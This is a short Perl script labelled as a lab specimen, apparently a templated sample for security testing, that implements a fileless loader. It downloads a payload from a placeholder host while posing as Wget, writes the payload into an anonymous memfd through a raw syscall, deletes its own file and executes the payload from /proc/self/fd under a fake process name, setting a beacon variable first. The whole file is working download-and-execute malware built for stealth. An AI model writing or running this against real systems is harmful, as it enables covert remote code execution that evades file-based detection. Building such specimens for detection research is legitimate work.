#!/usr/bin/perl
# kcsi lab specimen: fileless loader. Downloads the payload from @@HTTP@@ (127.x), writes it
# into a memfd (memfd_create via syscall 319, MFD_CLOEXEC), deletes itself and execs the
# memfd through /proc/self/fd/N with a fake argv[0].
use strict;
use warnings;
use IO::Socket::INET;
use POSIX ();

my ($h, $p) = split /:/, '@@HTTP@@';
my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Proto => 'tcp', Timeout => 5) or exit 1;
print $s "GET @@URLPATH@@ HTTP/1.0\r\nHost: $h\r\nUser-Agent: Wget/1.21.3\r\n\r\n";
my $resp = '';
while (sysread($s, my $d, 65536)) { $resp .= $d; }
close $s;
my ($head, $body) = split /\r\n\r\n/, $resp, 2;
exit 1 unless $head =~ m{^HTTP/1\.\d 200} && defined $body && length $body;

my $name = '@@MEMFD_NAME@@';
my $fd = syscall(319, $name, 1);
exit 1 if $fd < 0;
my $off = 0;
while ($off < length $body) {
    my $n = POSIX::write($fd, substr($body, $off), length($body) - $off);
    exit 1 unless $n;
    $off += $n;
}
unlink $0;
$ENV{UPD_SRV} = '@@BEACON@@';
exec { "/proc/self/fd/$fd" } '@@ARGV0@@', '--scope', 'user';
exit 1;
